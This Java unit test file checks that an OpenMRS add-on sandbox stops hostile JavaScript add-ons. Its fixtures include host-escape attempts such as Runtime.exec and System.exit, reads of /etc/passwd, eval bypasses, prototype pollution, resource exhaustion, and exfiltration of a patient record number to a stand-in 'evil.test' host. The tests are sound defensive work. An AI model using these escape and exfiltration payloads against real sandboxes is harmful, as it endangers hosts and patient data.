package org.openmrs.module.addonmarket.runtime.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.After;
import org.junit.AfterClass;
import org.junit.BeforeClass;
import org.junit.Test;
import org.openmrs.module.addonmarket.error.ErrorCode;
import org.openmrs.module.addonmarket.host.Setting;

/**
 * Add-ons that try to escape the sandbox, reach what they were not granted or take the host down. Each is stopped
 * with an error that says what happened, and after each a normal add-on still runs: the host kept going.
 */
public class HostileAddonsTest {

	private static final SandboxFixture FIXTURE = new SandboxFixture();

	private static LocalServer server;

	@BeforeClass
	public static void startServer() throws Exception {
		server = new LocalServer();
	}

	@AfterClass
	public static void stop() {
		server.close();
		FIXTURE.sandbox.close();
	}

	@After
	public void hostStillRuns() {
		FIXTURE.reset();
		FIXTURE.assertStillRuns();
	}

	@Test
	public void javaType_shouldNotReachAnyHostClass() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { return Java.type('java.lang.System').exit(1); }", "go");

		assertScriptError(outcome, "ReferenceError: Java is not defined");
	}

	@Test
	public void packagesGlobal_shouldNotExist() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { return Packages.java.lang.Runtime.getRuntime()"
		        + ".exec('id'); }", "go");

		assertScriptError(outcome, "ReferenceError: Packages is not defined");
	}

	@Test
	public void polyglotEval_shouldNotExist() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { return Polyglot.eval('js', 'this'); }", "go");

		assertScriptError(outcome, "ReferenceError: Polyglot is not defined");
	}

	@Test
	public void load_shouldNotReadFilesOrRunCode() {
		assertScriptError(FIXTURE.run("function go(ctx) { return load('/etc/passwd'); }", "go"),
		    "ReferenceError: load is not defined");
		assertScriptError(FIXTURE.run("function go(ctx) { return loadWithNewGlobal({ name: 'x', script: '1' }); }",
		    "go"), "ReferenceError: loadWithNewGlobal is not defined");
	}

	@Test
	public void requireOrImport_shouldLoadNothing() {
		assertScriptError(FIXTURE.run("function go(ctx) { return require('fs').readFileSync('/etc/passwd'); }", "go"),
		    "ReferenceError: require is not defined");
		SandboxOutcome dynamicImport = FIXTURE.run("async function go(ctx) { const fs = await import('fs');"
		        + " return fs.readFileSync('/etc/passwd'); }", "go");
		assertThat(dynamicImport.error().code()).isEqualTo(ErrorCode.RUNTIME_SCRIPT_ERROR.code());
		assertThat(dynamicImport.error().message()).contains("fs");
		assertThat(FIXTURE.run("import fs from 'fs';\nfunction go(ctx) { return 1; }", "go").error().code())
		        .isEqualTo(ErrorCode.RUNTIME_SCRIPT_SYNTAX.code());
	}

	@Test
	public void evalAndTheFunctionConstructor_shouldBeDisabled() {
		assertScriptError(FIXTURE.run("function go(ctx) { return eval('1 + 1'); }", "go"),
		    "dynamic evaluation of code is disabled");
		assertScriptError(FIXTURE.run("function go(ctx) { return ctx.ehr.read.constructor('return this')(); }", "go"),
		    "dynamic evaluation of code is disabled");
	}

	@Test
	public void getClassOnACtxObject_shouldFindNoJavaObject() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { return [typeof ctx.getClass, typeof ctx.ehr.getClass,"
		        + " typeof ctx.ehr.read.getClass, typeof ctx.log.getClass]; }", "go");

		assertThat(outcome.result().toString()).isEqualTo("[\"undefined\",\"undefined\",\"undefined\",\"undefined\"]");
		assertScriptError(FIXTURE.run("function go(ctx) { return ctx.ehr.getClass().forName('java.lang.Runtime'); }",
		    "go"), "TypeError");
	}

	@Test
	public void reflectionThroughCtx_shouldReachOnlyPlainJavaScript() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { const seen = [];"
		        + " for (const o of [ctx, ctx.ehr, ctx.http, ctx.log, ctx.ehr.read]) {"
		        + "  seen.push(Object.getPrototypeOf(o) === Object.prototype || Object.getPrototypeOf(o) === Function.prototype);"
		        + "  seen.push(Object.getOwnPropertyNames(o).join()); }"
		        + " seen.push(ctx.ehr.constructor === Object, ctx.__proto__ === Object.prototype);"
		        + " return seen; }", "go");

		assertThat(outcome.error()).isNull();
		assertThat(outcome.result().toString()).doesNotContainIgnoringCase("bridge").doesNotContain("java")
		        .isEqualTo("[true,\"patient,user,config,event,ehr,http,log\",true,\"read,search,create\",true,"
		                + "\"fetch\",true,\"length,name,prototype,info,warn,error\",true,\"length,name,prototype\",true,true]");
	}

	@Test
	public void callerAndArgumentsOfCtxFunctions_shouldNotLeakTheHostBridge() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { const found = [];"
		        + " found.push(String(go.caller));"
		        + " try { found.push(String(ctx.ehr.read.caller)); } catch (e) { found.push(e.name); }"
		        + " try { found.push(String(ctx.ehr.read.arguments)); } catch (e) { found.push(e.name); }"
		        + " return found; }", "go");

		assertThat(outcome.result().toString()).isEqualTo("[\"undefined\",\"TypeError\",\"TypeError\"]");
	}

	@Test
	public void prototypePollution_shouldBeInvisibleToTheNextRun() {
		SandboxOutcome polluter = FIXTURE.run("inst-a", "function go(ctx) { Object.prototype.isAdmin = true;"
		        + " Array.prototype.map = function () { return ['pwned']; }; JSON.parse = function () { return 'pwned'; };"
		        + " globalThis.leak = 'secret'; return ({}).isAdmin; }", "go");
		assertThat(polluter.result().asBoolean()).as("polluted within its own run").isTrue();

		SandboxOutcome next = FIXTURE.run("inst-a", "function go(ctx) { return [({}).isAdmin === undefined,"
		        + " [1].map(x => x + 1)[0], typeof leak, ctx.ehr.search('Observation', { _count: 1 }).length]; }", "go");

		assertThat(next.result().toString()).isEqualTo("[true,2,\"undefined\",1]");
	}

	@Test
	public void readingAnotherInstallationsState_shouldFindNothing() {
		FIXTURE.run("inst-a", "var secret = 'patient list'; let cache = { token: 't0ps3cret' };"
		        + " function go(ctx) { globalThis.shared = cache; return secret; }", "go");

		SandboxOutcome other = FIXTURE.run("inst-b", "function go(ctx) { ctx.ehr.read('Patient', 'p2');"
		        + " return [typeof secret, typeof cache, typeof shared, Object.keys(globalThis).length]; }", "go");

		assertThat(other.result().toString()).isEqualTo("[\"undefined\",\"undefined\",\"undefined\",1]");
		assertThat(FIXTURE.port.calls).allSatisfy(c -> assertThat(c.call().installationUuid()).isEqualTo("inst-b"));
	}

	@Test
	public void infiniteLoop_shouldStopAtTheStatementLimit() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { while (true) { } }", "go");

		assertThat(outcome.error().code()).isEqualTo(ErrorCode.RUNTIME_STATEMENT_LIMIT.code());
		assertThat(outcome.error().message())
		        .isEqualTo("stopped after 1000000 statements (addonmarket.runtime.maxStatements)");
	}

	@Test
	public void endlessRun_shouldStopAtTheTimeLimit() {
		FIXTURE.settings.set(Setting.RUNTIME_MAX_STATEMENTS.name(), String.valueOf(Long.MAX_VALUE));
		FIXTURE.settings.set(Setting.RUNTIME_TIMEOUT_MILLIS.name(), "300");
		long started = System.nanoTime();

		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { for (;;) { } }", "go");

		assertThat(outcome.error().code()).isEqualTo(ErrorCode.RUNTIME_TIMEOUT.code());
		assertThat(outcome.error().message()).isEqualTo("stopped after 300 ms (addonmarket.runtime.timeoutMillis)");
		assertThat((System.nanoTime() - started) / 1_000_000).as("ms until stopped").isLessThan(5_000);
	}

	@Test
	public void deepRecursion_shouldEndInARangeErrorNotAStackOverflowOfTheHost() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { return down(0); }\nfunction down(n) { return down(n + 1) + 1; }",
		    "go");

		assertScriptError(outcome, "RangeError: Maximum call stack size exceeded");
	}

	@Test
	public void hugeString_shouldBeRefusedByTheEngine() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { let s = 'x'; for (;;) { s += s; } }", "go");

		assertScriptError(outcome, "RangeError: Invalid string length");
	}

	@Test
	public void hugeArray_shouldBeStoppedAtTheAllocationLimit() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { const all = [];"
		        + " for (;;) { all.push(new Array(100000).fill(7)); } }", "go");

		assertThat(outcome.error().code()).isEqualTo(ErrorCode.RUNTIME_MEMORY_LIMIT.code());
		assertThat(outcome.error().message())
		        .isEqualTo("stopped after allocating more than 268435456 bytes (addonmarket.runtime.maxAllocatedBytes)");
	}

	@Test
	public void hugeTypedArray_shouldBeRefusedByTheEngine() {
		assertScriptError(FIXTURE.run("function go(ctx) { return new Float64Array(1e9).length; }", "go"),
		    "RangeError");
	}

	@Test
	public void hugeResult_shouldNotReachTheHost() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { return { text: 'x'.repeat(10000000) }; }", "go");

		assertThat(outcome.error().code()).isEqualTo(ErrorCode.RUNTIME_RESULT_TOO_LARGE.code());
		assertThat(outcome.error().message()).contains("larger than the 262144 bytes addonmarket.runtime.maxResultBytes");
	}

	@Test
	public void hugeArgument_shouldStopTheRunEvenWhenTheAddonCatches() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { try { ctx.ehr.create('Notice', { text: 'x'.repeat(1e6) }); }"
		        + " catch (e) { } return 'carried on'; }", "go");

		assertThat(outcome.error().code()).isEqualTo(ErrorCode.RUNTIME_ARGUMENT_TOO_LARGE.code());
		assertThat(FIXTURE.port.calls).as("nothing reached the gateway").isEmpty();
	}

	@Test
	public void logFlood_shouldStopTheRunAndKeepTheFirstLines() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { for (let i = 0; ; i++) { try { ctx.log('line ' + i); }"
		        + " catch (e) { } } }", "go");

		assertThat(outcome.error().code()).isEqualTo(ErrorCode.RUNTIME_LOG_LIMIT.code());
		assertThat(outcome.error().message()).isEqualTo("stopped after logging more than 100 lines (addonmarket.runtime.maxLogLines)");
		assertThat(outcome.log()).hasSize(100);
	}

	@Test
	public void egressToAnUndeclaredHost_shouldBeRefusedAndSendNothing() {
		FIXTURE.port.allowEgress(server.allowed());

		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { return ctx.http.fetch('http://localhost:"
		        + server.port() + "/secret').body; }", "go");

		assertThat(outcome.error().code()).isEqualTo(ErrorCode.PRIVILEGE_REQUIRED.code());
		assertThat(outcome.error().message()).contains("egress to http://localhost:" + server.port() + " is not approved");
		assertThat(server.hits("/secret")).isZero();
	}

	@Test
	public void egressToADeclaredHostsSibling_shouldBeRefused() {
		FIXTURE.port.allowEgress("https://api.example.org/");

		SandboxOutcome sibling = FIXTURE.run("function go(ctx) { return ctx.http.fetch("
		        + "'https://api.example.org.evil.test/steal?mrn=123').status; }", "go");
		SandboxOutcome userInfo = FIXTURE.run("function go(ctx) { return ctx.http.fetch("
		        + "'https://api.example.org@evil.test/steal').status; }", "go");

		assertThat(sibling.error().message()).contains("egress to https://api.example.org.evil.test is not approved");
		assertThat(userInfo.error().code()).isEqualTo(ErrorCode.RUNTIME_EGRESS_URL_INVALID.code());
		assertThat(FIXTURE.port.calls).extracting(c -> c.target())
		        .containsExactly("GET https://api.example.org.evil.test/steal?mrn=123");
	}

	@Test
	public void redirectToAnUndeclaredHost_shouldNotBeFollowed() {
		FIXTURE.port.allowEgress(server.allowed());

		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { return ctx.http.fetch('" + server.allowed()
		        + "redirect-out').body; }", "go");

		assertThat(outcome.error().message()).contains("egress to http://localhost:" + server.port() + " is not approved");
		assertThat(server.hits("/allowed/redirect-out")).isEqualTo(1);
		assertThat(server.hits("/secret")).as("requests that reached the undeclared target").isZero();
	}

	@Test
	public void oversizeResponse_shouldStopTheRunEvenWhenTheAddonCatches() {
		FIXTURE.port.allowEgress(server.allowed());
		FIXTURE.settings.set(Setting.RUNTIME_MAX_EGRESS_RESPONSE_BYTES.name(), "65536");

		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { try { return ctx.http.fetch('" + server.allowed()
		        + "big').body.length; } catch (e) { return 'carried on'; } }", "go");

		assertThat(outcome.error().code()).isEqualTo(ErrorCode.RUNTIME_EGRESS_RESPONSE_TOO_LARGE.code());
		assertThat(outcome.error().message()).contains("larger than the 65536 bytes");
	}

	@Test
	public void ehrCallOutsideTheGrant_shouldBeRefused() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { return ctx.ehr.search('Condition', {}); }", "go");

		assertThat(outcome.error().code()).isEqualTo(ErrorCode.PRIVILEGE_REQUIRED.code());
		assertThat(outcome.error().message()).isEqualTo("Access denied: no scope of the grant covers search of Condition");
	}

	@Test
	public void callAfterTheInstallationWasSuspendedMidRun_shouldBeRefused() {
		FIXTURE.port.suspendAfter(1);

		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { const first = ctx.ehr.search('Observation', {});"
		        + " ctx.log('read ' + first.length); return ctx.ehr.search('Observation', {}); }", "go");

		assertThat(outcome.error().message()).isEqualTo("Access denied: installation inst-1 is SUSPENDED");
		assertThat(outcome.log()).extracting(l -> l.text()).containsExactly("read 3");
	}

	@Test
	public void hostStreamsAndBlockingPrimitives_shouldNotExist() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { return [typeof console, typeof print, typeof Graal,"
		        + " typeof SharedArrayBuffer, typeof Atomics, typeof quit, typeof setTimeout]; }", "go");

		assertThat(outcome.result().toString()).isEqualTo("[\"undefined\",\"undefined\",\"undefined\",\"undefined\","
		        + "\"undefined\",\"undefined\",\"undefined\"]");
	}

	@Test
	public void tamperingWithCtx_shouldChangeNothing() {
		SandboxOutcome outcome = FIXTURE.run("function go(ctx) { 'use strict'; const failed = [];"
		        + " for (const f of [() => { ctx.ehr.read = () => 'fake'; }, () => { ctx.patient = 'p2'; },"
		        + "  () => { delete ctx.http; }, () => { ctx.log.info = null; }]) {"
		        + "  try { f(); } catch (e) { failed.push(e.name); } }"
		        + " return [failed, ctx.patient, ctx.ehr.read('Patient', 'p1').id]; }", "go");

		assertThat(outcome.result().toString())
		        .isEqualTo("[[\"TypeError\",\"TypeError\",\"TypeError\",\"TypeError\"],\"patient-1\",\"p1\"]");
	}

	private static void assertScriptError(SandboxOutcome outcome, String message) {
		assertThat(outcome.error()).as("the run's error").isNotNull();
		assertThat(outcome.error().code()).isEqualTo(ErrorCode.RUNTIME_SCRIPT_ERROR.code());
		assertThat(outcome.error().message()).contains(message);
	}
}
